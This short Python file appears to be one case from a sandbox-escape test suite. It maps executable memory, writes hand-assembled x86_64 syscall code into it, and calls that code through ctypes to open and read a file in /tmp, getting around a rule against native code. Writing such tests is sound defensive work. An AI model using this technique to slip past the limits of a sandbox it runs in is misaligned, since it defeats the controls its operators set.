# class: machine_code
# rule: native_code
# needs: x86_64
# success: machine code in memory mapped executable reads a file in /tmp
# proof: read
import ctypes
import mmap

from attack import FILE, attempt

# long f(number, a, b, c): mov rax, rdi; mov rdi, rsi; mov rsi, rdx; mov rdx, rcx; syscall; ret
CODE = bytes.fromhex("4889f84889f74889d64889ca0f05c3")


@attempt
def steal():
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE)
    where = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    raw = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_void_p] * 4)(where)
    name, text = ctypes.create_string_buffer(FILE.encode()), ctypes.create_string_buffer(200)
    fd = raw(2, ctypes.addressof(name), 0, 0)
    raw(0, fd, ctypes.addressof(text), 199)
    return text.value
